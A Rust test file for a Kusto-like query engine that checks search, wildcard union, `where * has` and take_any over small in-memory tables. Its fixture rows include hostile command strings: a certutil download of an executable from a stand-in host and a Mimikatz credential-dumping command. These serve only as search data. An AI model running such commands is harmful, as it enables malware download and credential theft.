//! `search`, `union` with wildcard table names, `where * has`, and `take_any` of several
//! columns, over a catalog of three small tables.

use std::sync::Arc;

use datafusion::arrow::array::{Int64Array, StringArray};
use datafusion::arrow::datatypes::Schema;
use datafusion::arrow::record_batch::RecordBatch;
use serde_json::{Value, json};

use super::test_support::{TestResult, column};
use crate::catalog::MemCatalog;
use crate::error::QueryError;
use crate::session::{Engine, EngineConfig};
use crate::types::{ScalarType, field_for};

/// `ProcA(Cmd, Port)`, `ProcB(Cmd)` and `Mail(Subject)`.
fn catalog() -> Result<Arc<MemCatalog>, Box<dyn std::error::Error>> {
    let mut c = MemCatalog::new();
    let a = Arc::new(Schema::new(vec![
        field_for("Cmd", ScalarType::String),
        field_for("Port", ScalarType::Long),
    ]));
    let batch = RecordBatch::try_new(
        a.clone(),
        vec![
            Arc::new(StringArray::from(vec![
                "certutil -urlcache -f http://x/a.exe",
                "whoami /all",
            ])),
            Arc::new(Int64Array::from(vec![443, 4444])),
        ],
    )?;
    c.add_batches("ProcA", a, vec![batch])?;
    let b = Arc::new(Schema::new(vec![field_for("Cmd", ScalarType::String)]));
    let batch = RecordBatch::try_new(
        b.clone(),
        vec![Arc::new(StringArray::from(vec![
            "Mimikatz.exe sekurlsa::logonpasswords",
        ]))],
    )?;
    c.add_batches("ProcB", b, vec![batch])?;
    let m = Arc::new(Schema::new(vec![field_for("Subject", ScalarType::String)]));
    let batch = RecordBatch::try_new(
        m.clone(),
        vec![Arc::new(StringArray::from(vec!["Invoice 4444 overdue"]))],
    )?;
    c.add_batches("Mail", m, vec![batch])?;
    Ok(Arc::new(c))
}

async fn results(query: &str) -> Result<Value, QueryError> {
    let engine = Engine::new(EngineConfig::default())?;
    let catalog = catalog().map_err(|e| QueryError::Execution(e.to_string()))?;
    Ok(engine.run(query, catalog).await?.to_json()?["Results"].clone())
}

#[tokio::test]
async fn search_terms_columns_wildcards_and_tables() -> TestResult {
    // A bare term is `* has term` over every table, numbers read as text.
    let r = results(r#"search "4444" | order by $table asc"#).await?;
    assert_eq!(column(&r, "$table"), vec![json!("Mail"), json!("ProcA")]);
    // `in (...)` with a wildcard, a column term, and a prefix term.
    let r = results(r#"search in (Proc*) Cmd:"whoami" or "mimi*" | order by $table asc"#).await?;
    assert_eq!(column(&r, "$table"), vec![json!("ProcA"), json!("ProcB")]);
    // Case sensitivity is the search's kind.
    let r = results(r#"search kind=case_sensitive in (ProcB) "mimikatz""#).await?;
    assert_eq!(r, json!([]));
    // The operator form filters its input and adds no $table.
    let r = results(r#"ProcA | search "urlcache" | project Port"#).await?;
    assert_eq!(r, json!([{"Port": 443}]));
    Ok(())
}

#[tokio::test]
async fn where_star_has_and_union_wildcards() -> TestResult {
    let r = results(r#"ProcA | where * has "4444" | project Cmd"#).await?;
    assert_eq!(r, json!([{"Cmd": "whoami /all"}]));
    let r =
        results("union withsource=T Proc* | summarize n = count() by T | order by T asc").await?;
    assert_eq!(r, json!([{"T": "ProcA", "n": 2}, {"T": "ProcB", "n": 1}]));
    // A pattern that matches nothing adds nothing.
    let r = results("union ProcB, Nothing* | count").await?;
    assert_eq!(r, json!([{"Count": 1}]));
    Ok(())
}

#[tokio::test]
async fn take_any_of_several_columns_keeps_one_row() -> TestResult {
    let r = results(
        r#"datatable(k:string, b:long, c:string)["x", 1, "p", "x", 1, "p", "y", 3, "r"]
         | summarize n = count(), take_any(b, c) by k | order by k asc"#,
    )
    .await?;
    assert_eq!(
        r,
        json!([{"k": "x", "n": 2, "b": 1, "c": "p"}, {"k": "y", "n": 1, "b": 3, "c": "r"}])
    );
    let r = results(r#"datatable(k:string, b:long)["x", 7] | summarize take_any(*) by k"#).await?;
    assert_eq!(r, json!([{"k": "x", "b": 7}]));
    Ok(())
}
